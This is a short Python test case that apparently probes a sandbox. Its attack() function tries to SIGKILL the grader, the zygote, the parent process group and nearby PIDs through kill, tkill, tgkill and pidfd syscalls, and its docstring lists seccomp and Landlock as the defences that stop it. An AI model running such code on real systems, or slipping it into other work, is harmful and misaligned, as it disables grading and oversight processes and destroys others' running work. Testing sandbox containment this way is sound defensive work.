"""Kills the zygote, the grader, its process group and every process near, by each system call that signals.
What stops it: seccomp; also another user, or Landlock.

Loses: 1.1.1, 1.1.2, 1.1.3
"""

import ctypes
import os
import signal


def attack():
    libc, won = ctypes.CDLL(None, use_errno=True), False
    for pid in (0, -1, -os.getppid(), *range(os.getppid() - 60, os.getpid() + 60)):
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            won = True
        except OSError:
            pass
        won |= libc.syscall(200, pid, 9) == 0 or libc.syscall(234, pid, pid, 9) == 0
        won |= libc.syscall(424, libc.syscall(434, pid, 0), 9, 0, 0) == 0
    return won
